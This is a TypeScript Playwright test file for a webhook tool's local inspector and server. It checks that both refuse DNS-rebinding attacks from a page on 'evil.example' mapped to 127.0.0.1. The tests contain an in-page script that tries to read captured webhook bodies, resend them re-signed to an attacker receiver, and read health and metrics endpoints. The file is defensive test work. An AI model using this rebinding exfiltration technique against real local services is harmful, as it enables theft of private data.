import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { closedAfterEach } from "../helpers/recording-server.js";
import { hmacHex, makeTempDir } from "../helpers/run-wh.js";
import { startServe } from "../cli/commands/serve-helpers.js";
import { chromiumAvailable as available, launchChromium, post, startWithUi, stopAll } from "./browser-helpers.js";

// DNS rebinding, played in Chromium: evil.example resolves to 127.0.0.1, as the name of an
// attacker's page does once its DNS answer is rebound. The page then shares an origin with whatever
// listens on 127.0.0.1 at its port, and only the Host header says which site it is.

const SECRET = "rebinding-secret";
const EVIL = "evil.example";
const receiver = closedAfterEach();
let browser: Browser;

beforeAll(async () => {
  if (!available) return;
  browser = await launchChromium([`--host-resolver-rules=MAP ${EVIL} 127.0.0.1`]);
});
afterAll(async () => {
  await browser?.close();
  await stopAll();
});

describe.skipIf(!available)("the inspector and DNS rebinding, in Chromium", () => {
  it("refuses its page with 403 when loaded through a foreign name that resolves to 127.0.0.1", async () => {
    const { inspector } = await startWithUi(["listen", "--secret", SECRET], SECRET);
    const foreign = new URL(inspector);
    foreign.hostname = EVIL;
    const page = await browser.newPage();
    const response = await page.goto(foreign.href);
    expect(response?.status()).toBe(403);
    expect(await page.locator("h1").count()).toBe(0);
    // The same inspector by its own names: the page is there.
    for (const name of ["127.0.0.1", "localhost"]) {
      const own = new URL(inspector);
      own.hostname = name;
      expect((await page.goto(own.href))?.status()).toBe(200);
      await page.getByTestId("status").filter({ hasText: "live" }).waitFor();
    }
  });

  it("keeps a rebound page from reading captured bodies and from resending them, re-signed, to the attacker", async () => {
    const attacker = await receiver();
    const { listening, inspector } = await startWithUi(["listen", "--secret", SECRET], SECRET);
    const body = '{"type":"track","userId":"u1","event":"Card Added","properties":{"last4":"4242"}}';
    expect(await post(`${listening}hook`, body, { "x-signature": hmacHex(SECRET, body) })).toBe(200);

    // A document of http://evil.example:<port>, as the attacker's page is once its name is rebound
    // (whatever it shows, a script in it is same-origin with the inspector): the script runs there.
    const page = await browser.newPage();
    await page.goto(`http://${EVIL}:${new URL(inspector).port}/cat-pictures`);
    const stolen = await page.evaluate(async (target) => {
      const events = await fetch("/events");
      const reader = events.body?.getReader();
      const first = events.ok && reader !== undefined ? new TextDecoder().decode((await reader.read()).value) : "";
      await reader?.cancel();
      const resend = await fetch("/api/entries/1/resend", {
        method: "POST",
        headers: { "content-type": "application/json", "x-wh-inspector": "1" },
        body: JSON.stringify({ url: target, resign: true }),
      });
      return { events: events.status, first, resend: resend.status };
    }, attacker.url);
    expect(stolen).toEqual({ events: 403, first: "", resend: 403 });
    await new Promise((resolve) => setTimeout(resolve, 200));
    expect(attacker.requests).toHaveLength(0);
  });

  it("keeps a rebound page from reading wh serve's /health and /metrics, and names no foreign host in its settings", async () => {
    const wh = await startServe(["--url", (await receiver()).url], { cwd: await makeTempDir() });
    try {
      const page = await browser.newPage();
      // A document of http://evil.example:<port>: the tracking API answers its unknown path with a 404, a document all the same.
      await page.goto(`http://${EVIL}:${new URL(wh.url).port}/cat-pictures`);
      const read = await page.evaluate(async () => {
        const text = async (path: string): Promise<[number, string]> => {
          const response = await fetch(path);
          return [response.status, await response.text()];
        };
        return { health: await text("/health"), metrics: await text("/metrics"), settings: await text("/v1/projects/wk/settings") };
      });
      expect(read.health[0]).toBe(403);
      expect(read.metrics[0]).toBe(403);
      expect(read.metrics[1]).not.toContain("wh_serve");
      expect(read.settings[0]).toBe(200);
      expect(read.settings[1]).not.toContain(EVIL);
    } finally {
      await wh.stop();
    }
  });
});
